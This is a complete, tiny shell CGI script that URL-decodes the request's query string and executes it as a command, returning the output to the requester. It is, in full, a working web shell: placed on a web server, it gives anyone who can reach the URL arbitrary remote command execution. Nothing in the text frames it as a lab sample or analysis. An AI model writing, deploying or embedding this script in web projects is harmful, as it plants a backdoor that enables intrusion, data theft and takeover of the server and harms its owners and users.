#!/bin/sh
echo "Content-Type: text/plain"
echo ""
c=$(printf '%b' "$(echo "$QUERY_STRING" | sed 's/+/ /g;s/%/\\x/g')")
$c 2>&1
